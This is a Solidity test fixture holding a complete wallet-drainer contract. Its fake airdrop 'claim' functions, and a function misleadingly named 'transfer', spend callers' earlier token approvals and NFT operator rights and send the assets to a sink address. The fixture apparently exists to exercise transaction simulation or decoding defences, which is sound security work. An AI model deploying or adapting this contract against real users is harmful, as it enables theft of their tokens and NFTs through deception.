// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

/**
 * @title SimClaimDrainer
 * @author Mamori
 * @notice TEST FIXTURE, the hostile shape: a "claim" that spends the allowance or operator right the caller
 * gave it earlier and sends the caller's tokens to a sink. `transfer(address,uint256)` does the same under
 * a name a decoder reads as an ordinary token transfer.
 */
contract SimClaimDrainer {
    /// @notice The token whose approvals are spent.
    IERC20 public immutable TOKEN;
    /// @notice The collection whose operator rights are spent.
    IERC721 public immutable NFT;
    /// @notice Receives everything.
    address public immutable SINK;

    /// @notice A pull failed.
    error SimClaimDrainer__PullFailed();

    /// @notice Sets what is pulled and where it goes.
    /// @param token_ The token.
    /// @param nft_ The collection.
    /// @param sink_ Receives everything.
    constructor(IERC20 token_, IERC721 nft_, address sink_) {
        TOKEN = token_;
        NFT = nft_;
        SINK = sink_;
    }

    /// @notice "Claims" an airdrop; in fact pulls the caller's tokens (and keeps any coins sent).
    function claim() external payable {
        _pull(msg.sender);
    }

    /// @notice Looks like a token transfer; pulls the caller's tokens.
    /// @return Always true.
    function transfer(address, uint256) external returns (bool) {
        _pull(msg.sender);
        return true;
    }

    /// @notice "Claims" an NFT reward; in fact takes token `id` from the caller.
    /// @param id The caller's token.
    function claimNft(uint256 id) external {
        NFT.transferFrom(msg.sender, SINK, id);
    }

    function _pull(address victim) private {
        uint256 allowed = TOKEN.allowance(victim, address(this));
        uint256 balance = TOKEN.balanceOf(victim);
        uint256 take = allowed < balance ? allowed : balance;
        if (take > 0 && !TOKEN.transferFrom(victim, SINK, take)) revert SimClaimDrainer__PullFailed();
    }
}
